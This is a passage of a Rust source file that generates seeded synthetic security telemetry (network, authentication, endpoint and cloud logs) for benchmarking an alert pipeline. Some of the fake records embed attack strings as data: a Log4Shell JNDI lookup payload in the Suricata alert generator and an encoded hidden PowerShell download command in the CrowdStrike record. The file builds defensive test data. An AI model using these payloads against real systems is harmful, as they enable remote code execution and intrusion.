//! A seeded generator of realistic raw telemetry, for benchmarks and for anyone who wants the
//! same corpus (`alertctx generate --count N --seed S`).
//!
//! The mix follows what a SOC pipeline sees: mostly network, DNS and authentication records,
//! fewer process and cloud records, few detections; every source the core knows; about 1 KB a
//! record on average; about 20% exact repeats of a recent record (which deduplication folds);
//! addresses that hit and miss the asset inventory, public and private, IPv4 and IPv6; users
//! spelled every way logs spell them. The same seed always gives the same bytes
//! (ChaCha8, whose output is fixed across versions).

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use std::fmt::Write;

/// Base time of the corpus: 2026-03-14T00:00:00Z, in ms.
const T0: i64 = 1_773_446_400_000;

/// One generated record: the source it imitates and its raw text (one line).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Generated {
    pub source: &'static str,
    pub line: String,
}

pub struct Generator {
    rng: ChaCha8Rng,
    n: u64,
    recent: Vec<Generated>,
    /// Share of records that repeat a recent one exactly.
    pub duplicate_rate: f64,
}

/// The user names the generator writes (benchmarks put them in their directory so that
/// generated records hit it).
pub const USERS: [&str; 12] = [
    "jdoe",
    "asmith",
    "rlee",
    "mgarcia",
    "dbrown",
    "lchen",
    "ejohnson",
    "fschmidt",
    "ctaylor",
    "svc-backup",
    "adm-asmith",
    "administrator",
];
const DOMAINS: [&str; 6] = [
    "cdn-update.example.net",
    "login.example.com",
    "intranet.corp.example.com",
    "api.example.org",
    "files.example.net",
    "a1b2c3d4e5.example.xyz",
];
const PROCS: [&str; 8] = [
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\rundll32.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Windows\System32\wbem\WmiPrvSE.exe",
];
/// Arguments each of PROCS is typically started with (JSON-escaped), same order.
const PROC_ARGS: [&str; 8] = [
    "-k netsvcs -p -s Schedule",
    r"-NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\IT\\inventory.ps1",
    "/c whoami /groups",
    r#"/n \"C:\\Users\\Public\\Documents\\Q1-report.docx\""#,
    "/factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding",
    "shell32.dll,Control_RunDLL desk.cpl",
    "--type=renderer --field-trial-handle=1732,i,5150 --lang=en-US",
    "-secured -Embedding",
];
const UAS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "curl/8.5.0",
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) WindowsPowerShell/5.1.19041.3803",
];
const SIGS: [(u32, &str, &str, u8); 5] = [
    (
        2001219,
        "ET SCAN Potential SSH Scan",
        "Attempted Information Leak",
        2,
    ),
    (
        2035465,
        "ET MALWARE Cobalt Strike Beacon Observed",
        "A Network Trojan was detected",
        1,
    ),
    (
        2024897,
        "ET POLICY curl User-Agent Outbound",
        "Attempted Information Leak",
        3,
    ),
    (
        2010937,
        "ET POLICY Suspicious inbound to mySQL port 3306",
        "Potentially Bad Traffic",
        2,
    ),
    (
        2034647,
        "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)",
        "Attempted Administrator Privilege Gain",
        1,
    ),
];

impl Generator {
    pub fn new(seed: u64) -> Generator {
        Generator {
            rng: ChaCha8Rng::seed_from_u64(seed),
            n: 0,
            recent: Vec::new(),
            duplicate_rate: 0.2,
        }
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.rng.random_range(0..items.len())]
    }

    /// An internal address: mostly in inventory segments, some in an unknown private range.
    fn internal_ip(&mut self) -> String {
        match self.rng.random_range(0..10) {
            0..=3 => format!(
                "10.20.{}.{}",
                self.rng.random_range(0..32),
                self.rng.random_range(2..250)
            ),
            4..=6 => format!(
                "10.10.{}.{}",
                self.rng.random_range(0..9),
                self.rng.random_range(2..250)
            ),
            7 => format!("10.30.5.{}", self.rng.random_range(2..60)),
            8 => format!(
                "172.16.{}.{}",
                self.rng.random_range(0..255),
                self.rng.random_range(2..250)
            ),
            _ => format!("2001:db8:20::{:x}", self.rng.random_range(1..0xffff)),
        }
    }

    /// A public address: spread over the whole space, as geo lookups see it.
    fn public_ip(&mut self) -> String {
        loop {
            let a: u8 = self.rng.random_range(1..224);
            if matches!(a, 10 | 100 | 127 | 169 | 172 | 192 | 198 | 203) {
                continue;
            }
            return format!(
                "{a}.{}.{}.{}",
                self.rng.random::<u8>(),
                self.rng.random::<u8>(),
                self.rng.random_range(1..255)
            );
        }
    }

    fn any_ip(&mut self) -> String {
        if self.rng.random_bool(0.6) {
            self.internal_ip()
        } else {
            self.public_ip()
        }
    }

    /// A user as logs spell them.
    fn user(&mut self) -> (String, String) {
        let u = if self.rng.random_bool(0.9) {
            self.pick(&USERS).to_string()
        } else {
            format!("tmp-user{}", self.rng.random_range(0..500))
        };
        let spelled = match self.rng.random_range(0..4) {
            0 => format!("CORP\\\\{u}"),
            1 => format!("{u}@corp.example.com"),
            _ => u.clone(),
        };
        (u, spelled)
    }

    fn host(&mut self) -> String {
        format!("WS-{:04}", self.rng.random_range(1..400))
    }

    fn hex(&mut self, len: usize) -> String {
        let mut s = String::with_capacity(len);
        for _ in 0..len {
            let _ = write!(s, "{:x}", self.rng.random_range(0..16u8));
        }
        s
    }

    fn iso(&self, ms: i64) -> String {
        crate::timeparse::ms_to_rfc3339(ms)
    }

    /// The next record.
    pub fn next_record(&mut self) -> Generated {
        self.n += 1;
        if !self.recent.is_empty() && self.rng.random_bool(self.duplicate_rate) {
            let i = self.rng.random_range(0..self.recent.len());
            return self.recent[i].clone();
        }
        let t = T0 + self.n as i64 * 7;
        let g = match self.rng.random_range(0..100) {
            0..=14 => self.zeek_conn(t),
            15..=25 => self.suricata_dns(t),
            26..=34 => self.suricata_flow(t),
            35..=46 => self.windows_logon(t),
            47..=52 => self.sysmon_process(t),
            53..=57 => self.okta(t),
            58..=63 => self.cloudtrail(t),
            64..=67 => self.cef(t),
            68..=71 => self.suricata_http(t),
            72..=74 => self.suricata_alert(t),
            75..=77 => self.pan_traffic(t),
            78..=80 => self.windows_process(t),
            81..=82 => self.crowdstrike(t),
            83..=85 => self.entra_signin(t),
            86..=88 => self.gcp(t),
            89..=90 => self.github(t),
            91..=92 => self.leef(t),
            93..=94 => self.crowdstrike_fdr(t),
            95..=96 => self.defender_hunting(t),
            97..=98 => self.o365(t),
            _ => self.defender_alert(t),
        };
        if self.recent.len() < 1024 {
            self.recent.push(g.clone());
        } else {
            let i = (self.n % 1024) as usize;
            self.recent[i] = g.clone();
        }
        g
    }

    fn zeek_conn(&mut self, t: i64) -> Generated {
        let (src, dst) = (self.internal_ip(), self.any_ip());
        let line = format!(
            r#"{{"ts":{:.6},"uid":"C{}","id.orig_h":"{src}","id.orig_p":{},"id.resp_h":"{dst}","id.resp_p":{},"proto":"tcp","service":"ssl","duration":{:.6},"orig_bytes":{},"resp_bytes":{},"conn_state":"SF","local_orig":true,"local_resp":false,"missed_bytes":0,"history":"ShADadFf","orig_pkts":{},"orig_ip_bytes":{},"resp_pkts":{},"resp_ip_bytes":{},"_path":"conn","_system_name":"zeek-sensor-01"}}"#,
            t as f64 / 1000.0,
            self.hex(17),
            self.rng.random_range(49152..65535),
            [443, 80, 53, 22, 445, 3389][self.rng.random_range(0..6)],
            self.rng.random_range(0.0..120.0),
            self.rng.random_range(100..50_000),
            self.rng.random_range(100..500_000),
            self.rng.random_range(3..200),
            self.rng.random_range(200..60_000),
            self.rng.random_range(3..400),
            self.rng.random_range(200..600_000),
        );
        Generated {
            source: "zeek",
            line,
        }
    }

    fn suricata_dns(&mut self, t: i64) -> Generated {
        let src = self.internal_ip();
        let name = self.pick(&DOMAINS).to_string();
        let answer = self.public_ip();
        let line = format!(
            r#"{{"timestamp":"{}","flow_id":{},"in_iface":"ens192","event_type":"dns","src_ip":"{src}","src_port":{},"dest_ip":"10.10.0.10","dest_port":53,"proto":"UDP","community_id":"1:{}=","dns":{{"version":2,"type":"answer","id":{},"flags":"8180","qr":true,"rd":true,"ra":true,"opcode":0,"rrname":"{name}","rrtype":"A","rcode":"NOERROR","answers":[{{"rrname":"{name}","rrtype":"CNAME","ttl":300,"rdata":"edge.{name}"}},{{"rrname":"edge.{name}","rrtype":"A","ttl":60,"rdata":"{answer}"}}],"grouped":{{"A":["{answer}"],"CNAME":["edge.{name}"]}}}}}}"#,
            self.iso(t),
            self.rng.random_range(1u64..1 << 50),
            self.rng.random_range(1024..65535),
            self.hex(27),
            self.rng.random_range(1..65535),
        );
        Generated {
            source: "suricata",
            line,
        }
    }

    fn suricata_flow(&mut self, t: i64) -> Generated {
        let (src, dst) = (self.internal_ip(), self.any_ip());
        let line = format!(
            r#"{{"timestamp":"{}","flow_id":{},"in_iface":"ens192","event_type":"flow","src_ip":"{src}","src_port":{},"dest_ip":"{dst}","dest_port":{},"proto":"TCP","app_proto":"tls","flow":{{"pkts_toserver":{},"pkts_toclient":{},"bytes_toserver":{},"bytes_toclient":{},"start":"{}","end":"{}","age":{},"state":"closed","reason":"timeout","alerted":false}},"tcp":{{"tcp_flags":"1b","tcp_flags_ts":"1b","tcp_flags_tc":"1b","syn":true,"fin":true,"psh":true,"ack":true,"state":"closed"}},"community_id":"1:{}="}}"#,
            self.iso(t),
            self.rng.random_range(1u64..1 << 50),
            self.rng.random_range(1024..65535),
            [443, 80, 8443, 22][self.rng.random_range(0..4)],
            self.rng.random_range(3..100),
            self.rng.random_range(3..100),
            self.rng.random_range(200..90_000),
            self.rng.random_range(200..900_000),
            self.iso(t - 60_000),
            self.iso(t - 1_000),
            self.rng.random_range(1..600),
            self.hex(27),
        );
        Generated {
            source: "suricata",
            line,
        }
    }

    fn suricata_http(&mut self, t: i64) -> Generated {
        let (src, dst) = (self.internal_ip(), self.public_ip());
        let host = self.pick(&DOMAINS).to_string();
        let ua = self.pick(&UAS).to_string();
        let line = format!(
            r#"{{"timestamp":"{}","flow_id":{},"in_iface":"ens192","event_type":"http","src_ip":"{src}","src_port":{},"dest_ip":"{dst}","dest_port":80,"proto":"TCP","tx_id":0,"http":{{"hostname":"{host}","url":"/api/v{}/items?id={}&session={}","http_user_agent":"{ua}","http_content_type":"application/json","http_method":"{}","protocol":"HTTP/1.1","status":{},"length":{}}}}}"#,
            self.iso(t),
            self.rng.random_range(1u64..1 << 50),
            self.rng.random_range(1024..65535),
            self.rng.random_range(1..4),
            self.rng.random_range(1..100_000),
            self.hex(24),
            ["GET", "POST", "PUT"][self.rng.random_range(0..3)],
            [200, 200, 200, 301, 404, 500][self.rng.random_range(0..6)],
            self.rng.random_range(10..90_000),
        );
        Generated {
            source: "suricata",
            line,
        }
    }

    fn suricata_alert(&mut self, t: i64) -> Generated {
        let (src, dst) = (self.public_ip(), self.internal_ip());
        let (sid, sig, cat, sev) = *self.pick(&SIGS);
        let line = format!(
            r#"{{"timestamp":"{}","flow_id":{},"in_iface":"ens192","event_type":"alert","src_ip":"{src}","src_port":{},"dest_ip":"{dst}","dest_port":{},"proto":"TCP","direction":"to_server","alert":{{"action":"allowed","gid":1,"signature_id":{sid},"rev":3,"signature":"{sig}","category":"{cat}","severity":{sev},"metadata":{{"signature_severity":["Major"],"created_at":["2021_12_10"],"updated_at":["2024_05_01"]}}}},"app_proto":"http","flow":{{"pkts_toserver":4,"pkts_toclient":3,"bytes_toserver":812,"bytes_toclient":640,"start":"{}"}},"payload_printable":"GET /?x=${{jndi:ldap://{src}:1389/a}} HTTP/1.1\r\nHost: {dst}\r\n"}}"#,
            self.iso(t),
            self.rng.random_range(1u64..1 << 50),
            self.rng.random_range(1024..65535),
            [80, 443, 8080, 22, 3306][self.rng.random_range(0..5)],
            self.iso(t - 500),
        );
        Generated {
            source: "suricata",
            line,
        }
    }

    fn windows_logon(&mut self, t: i64) -> Generated {
        let (_, user) = self.user();
        let host = self.host();
        let ip = self.any_ip();
        let failed = self.rng.random_bool(0.15);
        let (id, kw, status) = if failed {
            (
                4625,
                "AUDIT_FAILURE",
                r#","Status":"0xc000006d","SubStatus":"0xc000006a","FailureReason":"%%2313""#,
            )
        } else {
            (4624, "AUDIT_SUCCESS", "")
        };
        let lt = [2, 3, 3, 3, 10, 5][self.rng.random_range(0..6)];
        let rid = self.rng.random_range(1100..1200);
        let line = format!(
            r#"{{"EventTime":"{}","Hostname":"{host}.corp.example.com","Keywords":-9214364837600034816,"EventType":"{kw}","SeverityValue":2,"Severity":"INFO","EventID":{id},"SourceName":"Microsoft-Windows-Security-Auditing","ProviderGuid":"{{54849625-5478-4994-A5BA-3E3B0328C30D}}","Version":2,"Task":12544,"OpcodeValue":0,"RecordNumber":{},"ProcessID":{},"ThreadID":{},"Channel":"Security","Message":"An account was logged on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-5-18\r\n\tAccount Name:\t\t{host}$\r\n\tAccount Domain:\t\tCORP\r\n\tLogon ID:\t\t0x3E7\r\n\r\nLogon Information:\r\n\tLogon Type:\t\t{lt}\r\n\tRestricted Admin Mode:\t-\r\n\tVirtual Account:\t\tNo\r\n\tElevated Token:\t\tYes","SubjectUserSid":"S-1-5-18","SubjectUserName":"{host}$","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7","TargetUserSid":"S-1-5-21-1111111111-2222222222-3333333333-{rid}","TargetUserName":"{user}","TargetDomainName":"CORP","TargetLogonId":"0x{}","LogonType":"{lt}","LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":"{}","LogonGuid":"{{00000000-0000-0000-0000-000000000000}}","TransmittedServices":"-","LmPackageName":"NTLM V2","KeyLength":"128","IpAddress":"{ip}","IpPort":"{}","ImpersonationLevel":"%%1833"{status},"EventReceivedTime":"{}","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}}"#,
            crate::timeparse::ms_to_rfc3339(t)
                .replace('T', " ")
                .trim_end_matches('Z'),
            self.rng.random_range(100_000..900_000),
            self.rng.random_range(500..900),
            self.rng.random_range(1000..9000),
            self.hex(6),
            self.host(),
            self.rng.random_range(1024..65535),
            crate::timeparse::ms_to_rfc3339(t + 900)
                .replace('T', " ")
                .trim_end_matches('Z'),
        );
        Generated {
            source: "windows_security",
            line,
        }
    }

    fn windows_process(&mut self, t: i64) -> Generated {
        let (_, user) = self.user();
        let host = self.host();
        let proc_ = self.pick(&PROCS).replace('\\', "\\\\");
        let parent = self.pick(&PROCS).replace('\\', "\\\\");
        let line = format!(
            r#"{{"EventTime":"{}","Hostname":"{host}.corp.example.com","EventID":4688,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","RecordNumber":{},"SubjectUserSid":"S-1-5-21-1111111111-2222222222-3333333333-{}","SubjectUserName":"{user}","SubjectDomainName":"CORP","SubjectLogonId":"0x{}","NewProcessId":"0x{:x}","NewProcessName":"{proc_}","TokenElevationType":"%%1938","ProcessId":"0x{:x}","CommandLine":"\"{proc_}\" -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\{user}\\AppData\\Local\\Temp\\{}.ps1","ParentProcessName":"{parent}","MandatoryLabel":"S-1-16-8192","Message":"A new process has been created.\r\n\r\nCreator Subject:\r\n\tAccount Name:\t\t{user}\r\n\tAccount Domain:\t\tCORP"}}"#,
            crate::timeparse::ms_to_rfc3339(t)
                .replace('T', " ")
                .trim_end_matches('Z'),
            self.rng.random_range(100_000..900_000),
            self.rng.random_range(1100..1200),
            self.hex(6),
            self.rng.random_range(1000..60_000),
            self.rng.random_range(1000..60_000),
            self.hex(8),
        );
        Generated {
            source: "windows_security",
            line,
        }
    }

    fn sysmon_process(&mut self, t: i64) -> Generated {
        let (_, user) = self.user();
        let host = self.host();
        let image = self.pick(&PROCS).replace('\\', "\\\\");
        let parent = self.pick(&PROCS).replace('\\', "\\\\");
        let line = format!(
            r#"{{"EventTime":"{}","Hostname":"{host}.corp.example.com","EventID":1,"SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","RecordNumber":{},"UtcTime":"{}","ProcessGuid":"{{8715b604-{}-{}-0000-000000000400}}","ProcessId":"{}","Image":"{image}","FileVersion":"10.0.19041.1","Description":"Windows Command Processor","Product":"Microsoft® Windows® Operating System","Company":"Microsoft Corporation","OriginalFileName":"Cmd.Exe","CommandLine":"\"{image}\" /c whoami /all","CurrentDirectory":"C:\\Users\\{user}\\","User":"CORP\\{user}","LogonGuid":"{{8715b604-2975-5f2a-0000-00200a{}}}","LogonId":"0x{}","TerminalSessionId":"1","IntegrityLevel":"Medium","Hashes":"SHA1={},MD5={},SHA256={},IMPHASH={}","ParentProcessGuid":"{{8715b604-0dea-5f2a-0e00-000000000400}}","ParentProcessId":"{}","ParentImage":"{parent}","ParentCommandLine":"\"{parent}\""}}"#,
            crate::timeparse::ms_to_rfc3339(t)
                .replace('T', " ")
                .trim_end_matches('Z'),
            self.rng.random_range(100_000..900_000),
            crate::timeparse::ms_to_rfc3339(t)
                .replace('T', " ")
                .trim_end_matches('Z'),
            self.hex(4),
            self.hex(4),
            self.rng.random_range(1000..60_000),
            self.hex(6),
            self.hex(6),
            self.hex(40),
            self.hex(32),
            self.hex(64),
            self.hex(32),
            self.rng.random_range(1000..60_000),
        );
        Generated {
            source: "sysmon",
            line,
        }
    }

    fn okta(&mut self, t: i64) -> Generated {
        let (u, _) = self.user();
        let ip = self.public_ip();
        let ok = self.rng.random_bool(0.9);
        let line = format!(
            r#"{{"actor":{{"alternateId":"{u}@corp.example.com","displayName":"{u}","id":"00u{}","type":"User"}},"authenticationContext":{{"authenticationStep":0,"externalSessionId":"102{}"}},"client":{{"device":"Computer","geographicalContext":{{"city":"Berlin","country":"Germany","geolocation":{{"lat":52.52,"lon":13.4}},"postalCode":"10115","state":"Berlin"}},"ipAddress":"{ip}","userAgent":{{"browser":"CHROME","os":"Windows 10","rawUserAgent":"{}"}},"zone":"null"}},"debugContext":{{"debugData":{{"requestId":"{}","requestUri":"/api/v1/authn","threatSuspected":"false","url":"/api/v1/authn?"}}}},"displayMessage":"User login to Okta","eventType":"user.session.start","legacyEventType":"core.user_auth.login_success","outcome":{{"result":"{}","reason":{}}},"published":"{}","securityContext":{{"asNumber":3320,"asOrg":"deutsche telekom ag","isp":"deutsche telekom ag","domain":"t-online.de","isProxy":false}},"severity":"INFO","transaction":{{"id":"{}","type":"WEB"}},"uuid":"{}-{}-11ef-{}-{}","version":"0"}}"#,
            self.hex(17),
            self.hex(22),
            UAS[0],
            self.hex(24),
            if ok { "SUCCESS" } else { "FAILURE" },
            if ok {
                "null".to_string()
            } else {
                "\"INVALID_CREDENTIALS\"".to_string()
            },
            self.iso(t),
            self.hex(24),
            self.hex(8),
            self.hex(4),
            self.hex(4),
            self.hex(12),
        );
        Generated {
            source: "okta",
            line,
        }
    }

    fn cloudtrail(&mut self, t: i64) -> Generated {
        let (u, _) = self.user();
        let ip = self.public_ip();
        let (src, name) = [
            ("s3.amazonaws.com", "GetObject"),
            ("ec2.amazonaws.com", "DescribeInstances"),
            ("iam.amazonaws.com", "CreateAccessKey"),
            ("sts.amazonaws.com", "AssumeRole"),
            ("s3.amazonaws.com", "PutBucketPolicy"),
        ][self.rng.random_range(0..5)];
        let line = format!(
            r#"{{"eventVersion":"1.09","userIdentity":{{"type":"IAMUser","principalId":"AIDA{}","arn":"arn:aws:iam::111122223333:user/{u}","accountId":"111122223333","accessKeyId":"AKIA{}","userName":"{u}","sessionContext":{{"attributes":{{"creationDate":"{}","mfaAuthenticated":"true"}}}}}},"eventTime":"{}","eventSource":"{src}","eventName":"{name}","awsRegion":"eu-central-1","sourceIPAddress":"{ip}","userAgent":"aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22","requestParameters":{{"bucketName":"examplecorp-data","key":"reports/2026/{}.csv"}},"responseElements":null,"requestID":"{}","eventID":"{}-{}-{}","readOnly":true,"eventType":"AwsApiCall","managementEvent":false,"recipientAccountId":"111122223333","eventCategory":"Data","tlsDetails":{{"tlsVersion":"TLSv1.3","cipherSuite":"TLS_AES_128_GCM_SHA256","clientProvidedHostHeader":"{src}"}}}}"#,
            self.hex(16).to_uppercase(),
            self.hex(16).to_uppercase(),
            self.iso(t - 3_600_000),
            self.iso(t),
            self.hex(8),
            self.hex(16).to_uppercase(),
            self.hex(8),
            self.hex(4),
            self.hex(12),
        );
        Generated {
            source: "cloudtrail",
            line,
        }
    }

    fn cef(&mut self, t: i64) -> Generated {
        let (src, dst) = (self.public_ip(), self.internal_ip());
        let (_, user) = self.user();
        let line = format!(
            "<134>Mar 14 09:20:11 fw01.corp.example.com EdgeWall[2231]: CEF:0|Example Networks|EdgeWall|9.1.2|threat-{}|Port scan detected|{}|rt={t} src={src} spt={} dst={dst} dpt={} proto=TCP act=blocked cat=Reconnaissance suser={user} deviceExternalId=EW-FW-01 dvchost=fw01.corp.example.com cs1Label=Policy cs1=Inbound-Default-Deny cn1Label=Probes cn1={} msg=Horizontal scan of {} ports from {src}",
            self.rng.random_range(1000..1200),
            self.rng.random_range(1..10),
            self.rng.random_range(1024..65535),
            self.rng.random_range(1..1024),
            self.rng.random_range(10..500),
            self.rng.random_range(10..500),
        );
        Generated {
            source: "cef",
            line,
        }
    }

    fn pan_traffic(&mut self, t: i64) -> Generated {
        let (src, dst) = (self.internal_ip(), self.public_ip());
        let ts = crate::timeparse::ms_to_rfc3339(t)
            .replace('-', "/")
            .replace('T', " ");
        let ts = &ts[..19];
        let line = format!(
            "1,{ts},013201001234,TRAFFIC,end,2817,{ts},{src},{dst},203.0.113.1,{dst},Allow-Web-Out,corp\\jdoe,,ssl,vsys1,trust,untrust,ethernet1/2,ethernet1/1,Log-Forwarding,{ts},{},1,{},443,{},443,0x40001c,tcp,allow,{},{},{},{},{ts},{},computer-and-internet-info,,{},0x0,10.0.0.0-10.255.255.255,United States,,{},{},tcp-fin,0,0,0,0,,pa-fw01,from-policy,,,0,,0,,N/A,0,0,0,0,b1f8b0c2-1a11-4a0b-9e1f-3c1d2e4f5a6b,0,0,,,,,,,,",
            self.rng.random_range(100_000..999_999),
            self.rng.random_range(1024..65535),
            self.rng.random_range(1024..65535),
            self.rng.random_range(1000..90_000),
            self.rng.random_range(500..40_000),
            self.rng.random_range(500..50_000),
            self.rng.random_range(5..200),
            self.rng.random_range(1..600),
            self.rng.random_range(1_000_000u64..9_999_999_999),
            self.rng.random_range(2..100),
            self.rng.random_range(2..100),
        );
        Generated {
            source: "pan",
            line,
        }
    }

    fn crowdstrike(&mut self, t: i64) -> Generated {
        let host = self.host();
        let (u, _) = self.user();
        let ip = self.internal_ip();
        let line = format!(
            r#"{{"metadata":{{"customerIDString":"{}","offset":{},"eventType":"DetectionSummaryEvent","eventCreationTime":{t},"version":"1.0"}},"event":{{"ProcessStartTime":{},"ProcessEndTime":0,"ProcessId":{},"ParentProcessId":{},"ComputerName":"{host}","UserName":"{u}","DetectName":"Suspicious Activity","DetectDescription":"A process launched a suspicious PowerShell command that attempted to download a remote payload.","Severity":4,"SeverityName":"High","FileName":"powershell.exe","FilePath":"\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0","CommandLine":"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA","SHA256String":"{}","MD5String":"{}","SHA1String":"0000000000000000000000000000000000000000","MachineDomain":"CORP","SensorId":"{}","DetectId":"ldt:{}:{}","LocalIP":"{ip}","MACAddress":"00-50-56-{:02X}-{:02X}-{:02X}","Tactic":"Execution","Technique":"PowerShell","Objective":"Follow Through","PatternDispositionDescription":"Detection, standard detection.","PatternDispositionValue":0,"FalconHostLink":"https://falcon.crowdstrike.com/activity/detections/detail/{}","ParentImageFileName":"\\Device\\HarddiskVolume3\\Windows\\explorer.exe","ParentCommandLine":"C:\\Windows\\Explorer.EXE","GrandparentImageFileName":"\\Device\\HarddiskVolume3\\Windows\\System32\\userinit.exe","TechniqueId":"T1059.001","TacticId":"TA0002","IOCType":"hash_sha256","IOCValue":"{}"}}}}"#,
            self.hex(32),
            self.rng.random_range(1_000_000..9_000_000),
            t / 1000 - 30,
            self.rng.random_range(1_000_000u64..9_999_999_999),
            self.rng.random_range(1_000_000u64..9_999_999_999),
            self.hex(64),
            self.hex(32),
            self.hex(32),
            self.hex(32),
            self.rng.random_range(1_000_000u64..9_999_999_999),
            self.rng.random::<u8>(),
            self.rng.random::<u8>(),
            self.rng.random::<u8>(),
            self.hex(32),
            self.hex(64),
        );
        Generated {
            source: "crowdstrike",
            line,
        }
    }

    fn entra_signin(&mut self, t: i64) -> Generated {
        let (u, _) = self.user();
        let ip = self.public_ip();
        let err = if self.rng.random_bool(0.8) { 0 } else { 50126 };
        let line = format!(
            r#"{{"time":"{}","resourceId":"/tenants/{}/providers/Microsoft.aadiam","operationName":"Sign-in activity","operationVersion":"1.0","category":"SignInLogs","tenantId":"{}","resultType":"{err}","resultSignature":"None","durationMs":0,"callerIpAddress":"{ip}","correlationId":"{}","identity":"{u}","Level":4,"location":"DE","properties":{{"id":"{}","createdDateTime":"{}","userDisplayName":"{u}","userPrincipalName":"{u}@corp.example.com","userId":"{}","appId":"00000003-0000-0000-c000-000000000000","appDisplayName":"Microsoft Graph","ipAddress":"{ip}","status":{{"errorCode":{err}}},"clientAppUsed":"Browser","userAgent":"{}","deviceDetail":{{"operatingSystem":"Windows10","browser":"Edge 128.0.0"}},"location":{{"city":"Berlin","state":"Berlin","countryOrRegion":"DE"}},"conditionalAccessStatus":"success","isInteractive":true,"authenticationRequirement":"multiFactorAuthentication","riskLevelAggregated":"none","riskState":"none"}}}}"#,
            self.iso(t),
            self.hex(32),
            self.hex(32),
            self.hex(32),
            self.hex(32),
            self.iso(t),
            self.hex(32),
            UAS[0],
        );
        Generated {
            source: "entra_id",
            line,
        }
    }

    fn gcp(&mut self, t: i64) -> Generated {
        let ip = self.public_ip();
        let (u, _) = self.user();
        let line = format!(
            r#"{{"protoPayload":{{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","status":{{}},"authenticationInfo":{{"principalEmail":"{u}@corp.example.com"}},"requestMetadata":{{"callerIp":"{ip}","callerSuppliedUserAgent":"google-cloud-sdk gcloud/470.0.0"}},"serviceName":"storage.googleapis.com","methodName":"storage.objects.get","authorizationInfo":[{{"resource":"projects/_/buckets/examplecorp-prod-data/objects/exports/{}.parquet","permission":"storage.objects.get","granted":true}}],"resourceName":"projects/_/buckets/examplecorp-prod-data/objects/exports/{}.parquet"}},"insertId":"{}","resource":{{"type":"gcs_bucket","labels":{{"project_id":"examplecorp-prod","bucket_name":"examplecorp-prod-data","location":"europe-west3"}}}},"timestamp":"{}","severity":"INFO","logName":"projects/examplecorp-prod/logs/cloudaudit.googleapis.com%2Fdata_access","receiveTimestamp":"{}"}}"#,
            self.hex(8),
            self.hex(8),
            self.hex(12),
            self.iso(t),
            self.iso(t + 200),
        );
        Generated {
            source: "gcp_audit",
            line,
        }
    }

    fn github(&mut self, t: i64) -> Generated {
        let ip = self.public_ip();
        let (u, _) = self.user();
        let line = format!(
            r#"{{"@timestamp":{t},"_document_id":"{}","action":"git.clone","actor":"{u}-ghe","actor_id":{},"actor_ip":"{ip}","actor_location":{{"country_code":"DE"}},"business":"example-corp","org":"example-corp","org_id":1234567,"repo":"example-corp/payments-api","repository":"example-corp/payments-api","repository_public":false,"transport_protocol":1,"transport_protocol_name":"http","user_agent":"git/2.44.0","operation_type":"access","programmatic_access_type":"OAuth access token","created_at":{t}}}"#,
            self.hex(22),
            self.rng.random_range(100_000..999_999),
        );
        Generated {
            source: "github_audit",
            line,
        }
    }

    /// A GUID in its usual 8-4-4-4-12 spelling.
    fn guid(&mut self) -> String {
        format!(
            "{}-{}-4{}-{}{}-{}",
            self.hex(8),
            self.hex(4),
            self.hex(3),
            ["8", "9", "a", "b"][self.rng.random_range(0..4)],
            self.hex(3),
            self.hex(12)
        )
    }

    /// CrowdStrike Falcon Data Replicator: a ProcessRollup2 (process launch) event, flat and
    /// every value a string, image paths in their \Device\HarddiskVolumeN form.
    fn crowdstrike_fdr(&mut self, t: i64) -> Generated {
        let host = self.host();
        let (u, _) = self.user();
        let i = self.rng.random_range(0..PROCS.len());
        let (image, args) = (PROCS[i], PROC_ARGS[i]);
        let parent = self.pick(&PROCS).to_string();
        let name = image.rsplit('\\').next().unwrap_or_default().to_string();
        let parent_name = parent.rsplit('\\').next().unwrap_or_default().to_string();
        let image = image
            .replacen("C:", r"\Device\HarddiskVolume3", 1)
            .replace('\\', "\\\\");
        let start = t - self.rng.random_range(5..900);
        let il = ["8192", "8192", "12288", "16384"][self.rng.random_range(0..4)];
        let upid = self.rng.random_range(10_000_000_000u64..99_999_999_999);
        let line = format!(
